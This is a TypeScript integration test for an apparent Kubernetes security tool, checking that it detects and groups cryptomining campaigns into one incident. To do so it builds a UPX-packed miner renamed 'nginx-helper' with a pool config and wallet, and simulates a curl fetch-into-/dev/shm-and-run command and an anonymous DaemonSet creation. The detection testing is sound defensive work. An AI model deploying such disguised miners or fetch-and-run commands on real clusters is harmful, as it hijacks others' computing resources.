import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { copyFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import { freePort } from '@tidewaiter/servers';
import {
  buildImage,
  describeWith,
  elfFile,
  programs,
  pushImage,
  slackSink,
  type SlackSink,
  startRegistry,
  type TarEntry,
  type TestRegistry,
} from '@tidewaiter/testkit';

import { debian13, dpkgStatus } from '../fixtures.js';
import {
  makeHome,
  quiet,
  removeFolders,
  startTidewaiter,
  temporaryFolder,
  type Tidewaiter,
  until,
} from '../tidewaiter.js';
import {
  report,
  sensorToken,
  testPod,
  type TestPod,
  tetragonConnect,
  tetragonExec,
  tetragonProcess,
  tetragonWrite,
  watched,
} from './pods.js';

// Cryptomining as it comes into clusters: a miner under a harmless name, packed, with its pool in a
// file; fetched at start into memory; and as a DaemonSet that an anonymous request created. The
// pods are gone before their events are read.

const hookSecret = 'hook-secret-of-the-test';
const channel = 'C0000001';
const pool = '203.0.113.66';
const wallet = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
const settings = { autosave: true, cpu: true, pools: [{ url: `${pool}:3333`, user: wallet, keepalive: true }] };

interface Alert {
  incidentId: string | null;
  rule: { title: string };
  finding: string | null;
  context: { workload: string | null };
}

interface Incident {
  id: string;
  title: string;
  severity: string;
  findings: string[];
  workloads: { workload: string; imageDigest: string | null; pods: string[] }[];
}

let slack: SlackSink;
let registry: TestRegistry;
let tidewaiter: Tidewaiter;
const digests = new Map<string, string>();

/** Debian's miner packed by UPX; where these are missing, a file that looks packed. */
function packedMiner(): Buffer {
  if (!programs('xmrig', 'upx').isThere) {
    const program = elfFile([{ name: '.text', content: Buffer.alloc(8_192, 0x90), address: 0x40_0000, flags: 5 }]);
    return Buffer.concat([program, Buffer.from('UPX!')]);
  }
  const path = join(temporaryFolder(), 'nginx-helper');
  copyFileSync(execFileSync('sh', ['-c', 'command -v xmrig'], { encoding: 'utf8' }).trim(), path);
  execFileSync('upx', ['-1', '-q', path]);
  return readFileSync(path);
}

beforeAll(async () => {
  slack = await slackSink();
  const ingestPort = await freePort();
  const notify = {
    url: `http://127.0.0.1:${ingestPort}/hooks/registry/main`,
    headers: { Authorization: `Bearer ${hookSecret}` },
  };
  registry = await startRegistry({ notify });
  const home = makeHome({
    'tidewaiter.yaml': `
registries:
  - { name: main, kind: distribution, url: "${registry.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
sensors:
  - { name: nodes, kind: tetragon, cluster: eu1, token: ${sensorToken} }
  - { name: audit, kind: kubernetes-audit, cluster: eu1, token: ${sensorToken} }
  - { name: watch, kind: kubernetes-watch, cluster: eu1, token: ${sensorToken} }
`,
    'routing.yaml': `
route:
  receiver: none
  routes: [ { receiver: security, matchers: [ 'kind="incident"' ] } ]
receivers:
  - name: none
  - name: security
    slack_configs: [ { app_token: xoxb-test, app_url: "${slack.apiUrl}/chat.postMessage", channel: ${channel} } ]
`,
  });
  tidewaiter = await startTidewaiter(home, ingestPort);
  await push('web', [
    { path: 'usr/sbin/nginx-helper', mode: 0o755, content: packedMiner() },
    { path: 'etc/nginx/config.json', content: JSON.stringify(settings) },
  ]);
  await push('worker', [{ path: 'app/start.sh', mode: 0o755, content: '#!/bin/sh\nexec sleep 1\n' }]);
}, 240_000);

afterAll(async () => {
  await tidewaiter?.stop();
  await Promise.all([registry?.stop(), slack?.stop()]);
  await removeFolders();
});

async function push(name: string, entries: TarEntry[]): Promise<void> {
  const dir = temporaryFolder();
  const packages = dpkgStatus({ dash: '0.5.12-2', curl: '8.5.0-1', apt: '2.6.1' });
  const lists = ['dash', 'curl', 'apt'].map((each) => ({
    path: `var/lib/dpkg/info/${each}.list`,
    content: `/.\n/usr/bin/${each === 'apt' ? 'apt-get' : each}\n`,
  }));
  const programs = ['usr/bin/dash', 'bin/sh', 'usr/bin/curl', 'usr/bin/apt-get', 'usr/bin/dpkg'].map((path) => ({
    ...{ path, mode: 0o755, content: `#!/bin/sh\n# ${path}\n` },
  }));
  await buildImage(dir, { layers: [[debian13, packages, ...lists, ...programs], entries] });
  const digest = await pushImage(registry, `shop/${name}:1`, `oci:${dir}:latest`);
  digests.set(name, digest);
  await until('the push is read', async () => {
    const { items } = await tidewaiter.api<{ items: { digest: string | null; state: string }[] }>('/pushes');
    return items.some((each) => each.digest === digest && each.state === 'analyzed');
  });
}

/** A pod that was started and is deleted: its events come later. */
async function pastPod(workload: string, image: string, kind: TestPod['kind'] = 'Deployment'): Promise<TestPod> {
  const repository = `${registry.host}/shop/${image}`;
  const pod = testPod({ namespace: 'shop', kind, workload, repository, tag: '1', digest: digests.get(image)! });
  await report(tidewaiter, 'watch', watched('ADDED', pod));
  await report(tidewaiter, 'watch', watched('DELETED', pod));
  return pod;
}

const incidents = async () => (await tidewaiter.api<{ items: Incident[] }>('/incidents')).items;
/**
 * Messages that stand. An incident that opened before its campaign was known is edited to point to
 * the campaign's.
 */
const messages = () =>
  slack
    .channel(channel)
    .filter(({ thread_ts: thread }) => thread === undefined)
    .filter((message) => !JSON.stringify(message).includes('Merged into another incident'));

async function alertsOf(workload: string): Promise<Alert[]> {
  const { items } = await tidewaiter.api<{ items: Alert[] }>('/alerts?limit=200');
  return items.filter(({ context }) => context.workload === workload);
}

/** Waits for an incident that has a workload. */
async function incidentOf(workload: string): Promise<Incident> {
  let found: Incident | undefined;
  await until(`an incident has ${workload}`, async () => {
    for (const { id } of await incidents()) {
      const incident = await tidewaiter.api<Incident>(`/incidents/${id}`);
      if (incident.workloads.some((each) => each.workload === workload)) found = incident;
    }
    return found !== undefined;
  });
  return found!;
}

async function titlesOf(workload: string): Promise<string[]> {
  return [...new Set((await alertsOf(workload)).map(({ rule }) => rule.title))].toSorted();
}

/** Fetches the miner into memory when the container starts. */
function fetched(pod: TestPod, host: string, to: string): object[] {
  const command = `curl -s http://${host}/k -o ${to} && chmod +x ${to} && ${to} -c /dev/shm/c.json`;
  const shell = tetragonProcess(pod, '/bin/sh', `-c "${command}"`);
  const curl = tetragonProcess(pod, '/usr/bin/curl', `-s http://${host}/k -o ${to}`, shell);
  const miner = tetragonProcess(pod, to, '-c /dev/shm/c.json', shell);
  return [
    tetragonExec(shell),
    tetragonExec(curl, shell),
    tetragonWrite(curl, to),
    tetragonExec(miner, shell),
    tetragonConnect(miner, host, 3333),
  ];
}

describeWith(programs('docker-registry', 'skopeo'))('cryptomining in a cluster', () => {
  it('reports a renamed miner of an image in Slack', async () => {
    const { items } = await tidewaiter.api<{ items: { id: string; path: string }[] }>(
      `/images/${digests.get('web')}/findings`,
    );
    expect(items).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ id: 'packed-executable', path: 'usr/sbin/nginx-helper' }),
        expect.objectContaining({ id: 'miner', path: 'etc/nginx/config.json' }),
      ]),
    );
    const pod = await pastPod('web', 'web');
    const miner = tetragonProcess(pod, '/usr/sbin/nginx-helper', '-c /etc/nginx/config.json');
    await report(tidewaiter, 'nodes', tetragonExec(miner), tetragonConnect(miner, pool, 3333));
    await until('Slack has a message', () => messages().length > 0);
    expect(JSON.stringify(messages()[0])).toContain('shop/Deployment/web');
    const incident = await incidentOf('shop/Deployment/web');
    expect(incident).toMatchObject({ severity: 'critical', findings: expect.arrayContaining(['miner']) });
    expect(incident.workloads).toMatchObject([{ imageDigest: digests.get('web'), pods: [pod.pod] }]);
    expect((await titlesOf('shop/Deployment/web')).length).toBeGreaterThanOrEqual(2);
  });

  it('adds a miner that is downloaded into memory to the same campaign', async () => {
    const pod = await pastPod('worker', 'worker');
    await report(tidewaiter, 'nodes', ...fetched(pod, pool, '/dev/shm/nginx-helper'));
    const incident = await incidentOf('shop/Deployment/worker');
    expect(incident.workloads.map(({ workload }) => workload)).toContain('shop/Deployment/web');
    const findings = new Set((await alertsOf('shop/Deployment/worker')).map(({ finding }) => finding));
    expect([...findings]).toEqual(expect.arrayContaining(['drift', 'miner']));
  });

  it('adds a DaemonSet of an anonymous request to the same campaign', async () => {
    const pod = {
      ...testPod({
        ...{ namespace: 'kube-system', kind: 'DaemonSet', workload: 'kube-proxy-helper', tag: 'latest' },
        repository: 'registry.example.org/tools/nginx-helper',
        digest: `sha256:${'d'.repeat(64)}`,
      }),
    };
    await report(tidewaiter, 'audit', daemonSetCreated(pod));
    const miner = tetragonProcess(pod, '/usr/local/bin/nginx-helper', '-c /etc/nginx/config.json');
    await report(tidewaiter, 'nodes', tetragonExec(miner), tetragonConnect(miner, pool, 3333));
    const workload = 'kube-system/DaemonSet/kube-proxy-helper';
    await until('both observables are known', async () => {
      const found = new Set((await alertsOf(workload)).map(({ finding }) => finding));
      return found.has('anonymous-admin') && found.has('miner');
    });
    await quiet();
    const incident = await incidentOf(workload);
    expect(incident.workloads.map((each) => each.workload).toSorted()).toEqual([
      workload,
      'shop/Deployment/web',
      'shop/Deployment/worker',
    ]);
  });

  it('is one incident with one message', async () => {
    expect(await incidents()).toHaveLength(1);
    expect(messages()).toHaveLength(1);
  });

  it('separates another campaign', async () => {
    const pod = await pastPod('reports', 'worker');
    await report(tidewaiter, 'nodes', ...fetched(pod, '198.51.100.23', '/dev/shm/other'));
    const incident = await incidentOf('shop/Deployment/reports');
    await quiet();
    expect(incident.workloads.map(({ workload }) => workload)).toEqual(['shop/Deployment/reports']);
    expect(await incidents()).toHaveLength(2);
  });

  it('rates a job that installs packages at start as low at most', async () => {
    const pod = await pastPod('prepare', 'worker', 'Job');
    const shell = tetragonProcess(pod, '/bin/sh', '-c "apt-get install -y jq && jq . /in.json"');
    const apt = tetragonProcess(pod, '/usr/bin/apt-get', 'install -y jq', shell);
    const dpkg = tetragonProcess(pod, '/usr/bin/dpkg', '--unpack /var/cache/apt/archives/jq_1.6-2.1_amd64.deb', apt);
    const jq = tetragonProcess(pod, '/usr/bin/jq', '. /in.json', shell);
    await report(
      tidewaiter,
      'nodes',
      ...[tetragonExec(shell), tetragonExec(apt, shell), tetragonExec(dpkg, apt), tetragonWrite(dpkg, '/usr/bin/jq')],
      tetragonExec(jq, shell),
    );
    await until('the installation is known', async () => (await alertsOf('shop/Job/prepare')).length > 0);
    await quiet();
    const worst = (await incidents()).filter(({ severity }) => severity !== 'low' && severity !== 'negligible');
    const workloads = await Promise.all(worst.map(async ({ id }) => tidewaiter.api<Incident>(`/incidents/${id}`)));
    expect(workloads.flatMap((each) => each.workloads.map(({ workload }) => workload))).not.toContain(
      'shop/Job/prepare',
    );
    expect(messages()).toHaveLength(2);
  });
});

/** The audit event of a DaemonSet that a request without a name created. */
function daemonSetCreated({ namespace, workload, repository }: TestPod): object {
  const time = new Date().toISOString();
  return {
    ...{ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: randomUUID() },
    ...{ stage: 'ResponseComplete', verb: 'create', userAgent: 'Go-http-client/2.0' },
    requestURI: `/apis/apps/v1/namespaces/${namespace}/daemonsets`,
    user: { username: 'system:anonymous', groups: ['system:unauthenticated'] },
    sourceIPs: ['198.51.100.125'],
    objectRef: { resource: 'daemonsets', apiVersion: 'v1', apiGroup: 'apps', namespace, name: workload },
    responseStatus: { metadata: {}, code: 201 },
    requestReceivedTimestamp: time,
    stageTimestamp: time,
    requestObject: {
      ...{ kind: 'DaemonSet', apiVersion: 'apps/v1', metadata: { name: workload, namespace } },
      spec: { template: { spec: { containers: [{ name: 'helper', image: `${repository}:latest` }] } } },
    },
  };
}
